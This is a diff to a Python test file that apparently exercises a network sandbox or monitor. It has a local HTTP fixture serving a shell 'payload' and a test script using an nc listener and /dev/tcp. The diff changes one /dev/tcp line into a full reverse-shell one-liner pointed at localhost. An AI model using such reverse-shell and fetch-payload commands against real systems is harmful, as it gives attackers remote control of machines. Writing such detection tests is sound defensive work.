@@ -24,14 +24,14 @@ STRICT = "network:\n  builtin_allow: false\n  allow: ['127.0.0.2']\nhoneytokens:
 @pytest.fixture(scope="module")
 def http_port() -> Iterator[int]:
     class H(http.server.BaseHTTPRequestHandler):
-        def do_GET(self) -> None:  # noqa: N802
+        def do_GET(self) -> None:
             body = b"#!/bin/sh\necho payload\n"
             self.send_response(200)
             self.send_header("Content-Length", str(len(body)))
             self.end_headers()
             self.wfile.write(body)
 
-        def do_POST(self) -> None:  # noqa: N802
+        def do_POST(self) -> None:
             self.rfile.read(int(self.headers.get("Content-Length") or 0))
             self.send_response(204)
             self.end_headers()
@@ -184,7 +184,7 @@ for i in range(320):
     s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 9)); s.close()
 "
 "{nc}" -l 127.0.0.1 4444
-sh -c 'exec 3<>/dev/tcp/127.0.0.1/{listener}; echo hi >&3' 2>/dev/null
+sh -c 'exec 3<>/dev/tcp/127.0.0.1/{listener}; sh <&3 >&3 2>&3' 2>/dev/null
 $PY -c "
 import os, socket
 s = socket.create_connection(('127.0.0.1', {listener}))
